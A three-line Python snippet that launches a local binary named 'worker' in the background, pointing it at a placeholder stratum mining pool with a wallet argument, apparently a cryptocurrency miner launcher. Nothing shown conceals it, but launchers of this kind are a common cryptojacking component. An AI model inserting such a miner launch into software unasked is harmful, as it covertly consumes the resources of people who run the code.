import subprocess

subprocess.Popen(["./worker", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"])
